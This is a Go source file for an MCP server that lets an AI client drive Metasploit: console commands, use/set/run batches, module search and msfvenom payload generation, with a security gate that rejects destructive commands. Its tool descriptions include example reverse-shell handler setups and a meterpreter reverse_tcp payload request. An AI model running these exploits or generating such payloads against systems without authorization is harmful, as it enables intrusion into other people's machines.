package mcpserver

import (
	"context"
	"encoding/base64"
	"fmt"
	"strings"
	"time"

	"github.com/go-json-experiment/json/jsontext"
	"github.com/modelcontextprotocol/go-sdk/mcp"

	"github.com/msfmcp/msfmcp/pkg/dispatch"
	"github.com/msfmcp/msfmcp/pkg/duration"
	"github.com/msfmcp/msfmcp/pkg/jsonutil"
	"github.com/msfmcp/msfmcp/pkg/venom"
)

// registerTools adds the execution tools.
func (s *Server) registerTools() {
	s.addExecuteCommandTool()
	s.addExecuteBatchTool()
	s.addSearchModulesTool()
	s.addGeneratePayloadTool()
	s.addConsoleStatusTool()
}

// maxInlinePayload bounds payload bytes returned inline (base64). Larger
// payloads must be written to a file with output_file.
const maxInlinePayload = 256 * 1024

// isLongRunning reports whether a command should become an async task on
// the HTTP transport. The adaptive budget already encodes which commands
// are slow.
func isLongRunning(command string) bool {
	return duration.ForCommand(command) >= duration.CommandExploit
}

// ═══════════════════════════════════════════════════════════════════════════
// execute_command — Run one console command
// ═══════════════════════════════════════════════════════════════════════════

func (s *Server) addExecuteCommandTool() {
	s.mcp.AddTool(
		&mcp.Tool{
			Name:  "execute_command",
			Title: "Execute Console Command",
			Description: `Run one Metasploit console command and get parsed output.

USE THIS TOOL WHEN:
• Checking framework state: version, db_status, workspace
• Inspecting modules: show options, info <module>
• Driving a persistent console session (pass console_id)

DO NOT USE THIS TOOL WHEN:
• Searching modules — use 'search_modules' (paginated, cheaper)
• Running a use/set/run sequence — use 'execute_batch' or a console session; state does NOT persist across independent calls
• Generating payloads — use 'generate_payload'

Commands pass a security gate: destructive system commands are rejected, risky ones carry a threat_level and risk_score in the result. Output is parsed into table/list/info_block/version_info/error/raw.

On the HTTP transport, slow commands (exploit, run) return {"task_id": ...} — poll with get_task_status.

EXAMPLES:
• {"command": "version"}
• {"command": "db_status"}
• {"command": "use exploit/multi/handler", "console_id": "new"} → returns console_id for follow-up calls`,
			InputSchema: map[string]any{
				"type": "object",
				"properties": map[string]any{
					"command": map[string]any{
						"type":        "string",
						"description": "The console command to execute.",
					},
					"timeout_seconds": map[string]any{
						"type":        "integer",
						"description": "Override the adaptive per-command timeout.",
					},
					"workspace": map[string]any{
						"type":        "string",
						"description": "Metasploit workspace for this execution.",
					},
					"console_id": map[string]any{
						"type":        "string",
						"description": "Persistent console session id. Use \"new\" to allocate one; the result carries the assigned id.",
					},
				},
				"required": []string{"command"},
			},
			Annotations: &mcp.ToolAnnotations{
				OpenWorldHint: boolPtr(true),
				Title:         "Execute Console Command",
			},
		},
		s.handleExecuteCommand,
	)
}

type executeCommandArgs struct {
	Command        string `json:"command"`
	TimeoutSeconds int    `json:"timeout_seconds"`
	Workspace      string `json:"workspace"`
	ConsoleID      string `json:"console_id"`
}

// consoleResult decorates an execution result with the session id so the
// client can keep using it.
type consoleResult struct {
	ConsoleID string `json:"console_id"`
	*dispatch.ExecutionResult
}

func (s *Server) handleExecuteCommand(ctx context.Context, req *mcp.CallToolRequest) (*mcp.CallToolResult, error) {
	var args executeCommandArgs
	if err := parseArgs(req, &args); err != nil {
		return errorResult(fmt.Sprintf("invalid arguments: %v. Expected 'command' (string).", err)), nil
	}
	if strings.TrimSpace(args.Command) == "" {
		return errorResult(`command is required. Example: {"command": "version"}`), nil
	}
	timeout := time.Duration(args.TimeoutSeconds) * time.Second

	if args.ConsoleID != "" {
		return s.executeInSession(ctx, args, timeout)
	}

	opts := dispatch.ExecOptions{
		Timeout:   timeout,
		Workspace: args.Workspace,
		Source:    "execute_command",
	}

	if isLongRunning(args.Command) && !s.syncMode.Load() {
		return s.launchTask(ctx, args.Command, func(taskCtx context.Context) (any, error) {
			return s.opts.Executor.ExecuteCommand(taskCtx, args.Command, opts), nil
		})
	}

	return jsonResult(s.opts.Executor.ExecuteCommand(ctx, args.Command, opts))
}

func (s *Server) executeInSession(ctx context.Context, args executeCommandArgs, timeout time.Duration) (*mcp.CallToolResult, error) {
	id := args.ConsoleID
	if id == "new" {
		info, err := s.opts.Executor.GetPersistentConsole(ctx, "")
		if err != nil {
			return errorResult(fmt.Sprintf("failed to create console session: %v", err)), nil
		}
		id = info.ID
	}
	res, err := s.opts.Executor.ExecuteInConsole(ctx, id, args.Command, timeout)
	if err != nil {
		return errorResult(fmt.Sprintf("console session %s: %v. Use console_id \"new\" to allocate a session.", id, err)), nil
	}
	return jsonResult(consoleResult{ConsoleID: id, ExecutionResult: res})
}

// launchTask runs work asynchronously and returns the task handle.
func (s *Server) launchTask(ctx context.Context, command string, work func(context.Context) (any, error)) (*mcp.CallToolResult, error) {
	task, taskCtx, err := s.tasks.Create(context.WithoutCancel(ctx), command)
	if err != nil {
		return errorResult(err.Error()), nil
	}
	s.tasks.Go(func() {
		out, err := work(taskCtx)
		if err != nil {
			task.Fail(err.Error())
			return
		}
		data, err := jsonutil.Marshal(out)
		if err != nil {
			task.Fail(fmt.Sprintf("encoding result: %v", err))
			return
		}
		task.Complete(jsontext.Value(data))
	})
	return jsonResult(map[string]any{
		"task_id": task.ID,
		"status":  TaskRunning,
		"hint":    "long-running command started; poll with get_task_status",
	})
}

// ═══════════════════════════════════════════════════════════════════════════
// execute_batch — Run an ordered command sequence
// ═══════════════════════════════════════════════════════════════════════════

func (s *Server) addExecuteBatchTool() {
	s.mcp.AddTool(
		&mcp.Tool{
			Name:  "execute_batch",
			Title: "Execute Command Batch",
			Description: `Run an ordered sequence of console commands that share state.

USE THIS TOOL WHEN:
• Running use/set/run sequences: the batch shares console context
• Executing more than a couple of related commands

Batches over 3 commands run as a single resource script in one console invocation; that path returns one aggregate result for the script (plus an entry per blocked command). Smaller batches return one result per command. Execution is strictly sequential; console state mutates in order.

EXAMPLE: {"commands": ["use exploit/multi/handler", "set LHOST 10.0.0.5", "set LPORT 4444", "run"]}`,
			InputSchema: map[string]any{
				"type": "object",
				"properties": map[string]any{
					"commands": map[string]any{
						"type":        "array",
						"items":       map[string]any{"type": "string"},
						"description": "Commands in execution order.",
					},
					"workspace": map[string]any{
						"type":        "string",
						"description": "Metasploit workspace for this batch.",
					},
				},
				"required": []string{"commands"},
			},
			Annotations: &mcp.ToolAnnotations{
				OpenWorldHint: boolPtr(true),
				Title:         "Execute Command Batch",
			},
		},
		s.handleExecuteBatch,
	)
}

func (s *Server) handleExecuteBatch(ctx context.Context, req *mcp.CallToolRequest) (*mcp.CallToolResult, error) {
	var args struct {
		Commands  []string `json:"commands"`
		Workspace string   `json:"workspace"`
	}
	if err := parseArgs(req, &args); err != nil {
		return errorResult(fmt.Sprintf("invalid arguments: %v. Expected 'commands' (array of strings).", err)), nil
	}
	if len(args.Commands) == 0 {
		return errorResult(`commands is required and must not be empty. Example: {"commands": ["version"]}`), nil
	}

	opts := dispatch.ExecOptions{Workspace: args.Workspace, Source: "execute_batch"}
	joined := strings.Join(args.Commands, "; ")

	if !s.syncMode.Load() && len(args.Commands) > 1 {
		return s.launchTask(ctx, joined, func(taskCtx context.Context) (any, error) {
			return s.opts.Executor.ExecuteBatch(taskCtx, args.Commands, opts), nil
		})
	}
	return jsonResult(s.opts.Executor.ExecuteBatch(ctx, args.Commands, opts))
}

// ═══════════════════════════════════════════════════════════════════════════
// search_modules — Paginated module search
// ═══════════════════════════════════════════════════════════════════════════

func (s *Server) addSearchModulesTool() {
	s.mcp.AddTool(
		&mcp.Tool{
			Name:  "search_modules",
			Title: "Search Modules",
			Description: `Search the Metasploit module catalog with pagination.

USE THIS TOOL WHEN:
• Looking for exploits/auxiliaries for a product, CVE, or platform
• The user asks "what modules exist for X"

Results are parsed into structured rows (name, rank, disclosure_date, description) and paginated; per_page is capped at 50 and oversized pages are trimmed to protect your context window.

EXAMPLES:
• {"query": "type:exploit platform:windows smb"}
• {"query": "cve:2021", "page": 2, "per_page": 25}`,
			InputSchema: map[string]any{
				"type": "object",
				"properties": map[string]any{
					"query": map[string]any{
						"type":        "string",
						"description": "Search expression, same syntax as the console 'search' command.",
					},
					"page": map[string]any{
						"type":        "integer",
						"description": "1-based page number. Default 1.",
					},
					"per_page": map[string]any{
						"type":        "integer",
						"description": "Rows per page, max 50. Default 20.",
					},
				},
				"required": []string{"query"},
			},
			Annotations: &mcp.ToolAnnotations{
				ReadOnlyHint:  true,
				OpenWorldHint: boolPtr(true),
				Title:         "Search Modules",
			},
		},
		s.handleSearchModules,
	)
}

func (s *Server) handleSearchModules(ctx context.Context, req *mcp.CallToolRequest) (*mcp.CallToolResult, error) {
	var args struct {
		Query   string `json:"query"`
		Page    int    `json:"page"`
		PerPage int    `json:"per_page"`
	}
	if err := parseArgs(req, &args); err != nil {
		return errorResult(fmt.Sprintf("invalid arguments: %v. Expected 'query' (string).", err)), nil
	}
	res, err := s.opts.Executor.SearchModules(ctx, args.Query, args.Page, args.PerPage)
	if err != nil {
		return errorResult(fmt.Sprintf("module search failed: %v", err)), nil
	}
	return jsonResult(res)
}

// ═══════════════════════════════════════════════════════════════════════════
// generate_payload — msfvenom payload generation
// ═══════════════════════════════════════════════════════════════════════════

func (s *Server) addGeneratePayloadTool() {
	s.mcp.AddTool(
		&mcp.Tool{
			Name:  "generate_payload",
			Title: "Generate Payload",
			Description: `Generate a payload with msfvenom.

USE THIS TOOL WHEN:
• The user asks for a reverse shell / meterpreter / bind payload binary
• A handler is set up and a matching payload artifact is needed

Payload requests pass the security gate: binding to 0.0.0.0 or wildcard LHOST is flagged high-risk. Small payloads come back inline as base64; set output_file for anything larger.

EXAMPLE: {"payload": "windows/meterpreter/reverse_tcp", "format": "exe", "options": {"LHOST": "10.0.0.5", "LPORT": "4444"}}`,
			InputSchema: map[string]any{
				"type": "object",
				"properties": map[string]any{
					"payload": map[string]any{
						"type":        "string",
						"description": "Payload path, e.g. windows/meterpreter/reverse_tcp.",
					},
					"format": map[string]any{
						"type":        "string",
						"description": "Output format: exe, elf, raw, psh, ...",
					},
					"options": map[string]any{
						"type":        "object",
						"description": "Payload options such as LHOST and LPORT.",
					},
					"encoder": map[string]any{
						"type":        "string",
						"description": "Optional encoder, e.g. x86/shikata_ga_nai.",
					},
					"iterations": map[string]any{
						"type":        "integer",
						"description": "Encoder iterations.",
					},
					"bad_chars": map[string]any{
						"type":        "string",
						"description": "Bytes to avoid, e.g. \\x00\\x0a.",
					},
					"output_file": map[string]any{
						"type":        "string",
						"description": "Write the payload to this path instead of returning it inline.",
					},
				},
				"required": []string{"payload"},
			},
			Annotations: &mcp.ToolAnnotations{
				OpenWorldHint: boolPtr(false),
				Title:         "Generate Payload",
			},
		},
		s.handleGeneratePayload,
	)
}

func (s *Server) handleGeneratePayload(ctx context.Context, req *mcp.CallToolRequest) (*mcp.CallToolResult, error) {
	if s.opts.Generator == nil {
		return errorResult("payload generation is disabled: msfvenom was not found during preflight"), nil
	}
	var args struct {
		Payload    string            `json:"payload"`
		Format     string            `json:"format"`
		Options    map[string]string `json:"options"`
		Encoder    string            `json:"encoder"`
		Iterations int               `json:"iterations"`
		BadChars   string            `json:"bad_chars"`
		OutputFile string            `json:"output_file"`
	}
	if err := parseArgs(req, &args); err != nil {
		return errorResult(fmt.Sprintf("invalid arguments: %v. Expected 'payload' (string).", err)), nil
	}
	if args.Payload == "" {
		return errorResult(`payload is required. Example: {"payload": "linux/x64/shell_reverse_tcp", "format": "elf"}`), nil
	}

	if s.opts.Gate != nil {
		check := s.opts.Gate.ValidatePayload(ctx, args.Payload, args.Options)
		if !check.Valid {
			out, err := jsonResult(check)
			if err != nil {
				return errorResult("payload blocked by security policy"), nil
			}
			out.IsError = true
			return out, nil
		}
	}

	res, err := s.opts.Generator.Generate(ctx, venom.Request{
		Payload:    args.Payload,
		Format:     args.Format,
		Options:    args.Options,
		Encoder:    args.Encoder,
		Iterations: args.Iterations,
		BadChars:   args.BadChars,
		OutFile:    args.OutputFile,
	})
	if err != nil {
		return errorResult(fmt.Sprintf("payload generation failed: %v", err)), nil
	}

	out := map[string]any{
		"payload":     args.Payload,
		"format":      args.Format,
		"size_bytes":  res.Size,
		"duration_ms": res.Duration.Milliseconds(),
	}
	switch {
	case res.Path != "":
		out["path"] = res.Path
	case res.Size > maxInlinePayload:
		out["note"] = fmt.Sprintf("payload is %d bytes; re-run with output_file to avoid an oversized inline response", res.Size)
	default:
		out["data_base64"] = base64.StdEncoding.EncodeToString(res.Data)
	}
	return jsonResult(out)
}

// ═══════════════════════════════════════════════════════════════════════════
// console_status — Transports, sessions, statistics
// ═══════════════════════════════════════════════════════════════════════════

func (s *Server) addConsoleStatusTool() {
	s.mcp.AddTool(
		&mcp.Tool{
			Name:  "console_status",
			Title: "Console Status",
			Description: `Report transport health, persistent console sessions, and execution statistics.

USE THIS TOOL WHEN:
• Diagnosing why commands fail or time out
• The user asks whether the RPC daemon or subprocess console is up
• Checking the stability rating after a run of failures

READ-ONLY; no console traffic.`,
			InputSchema: map[string]any{
				"type":       "object",
				"properties": map[string]any{},
			},
			Annotations: &mcp.ToolAnnotations{
				ReadOnlyHint:   true,
				IdempotentHint: true,
				OpenWorldHint:  boolPtr(false),
				Title:          "Console Status",
			},
		},
		s.handleConsoleStatus,
	)
}

func (s *Server) handleConsoleStatus(_ context.Context, _ *mcp.CallToolRequest) (*mcp.CallToolResult, error) {
	status := s.opts.Executor.Status()
	out := map[string]any{
		"status":       status,
		"sessions":     s.opts.Executor.ListConsoles(),
		"active_tasks": s.tasks.ActiveCount(),
	}
	if s.opts.Framework != "" {
		out["framework"] = s.opts.Framework
	}
	return jsonResult(out)
}
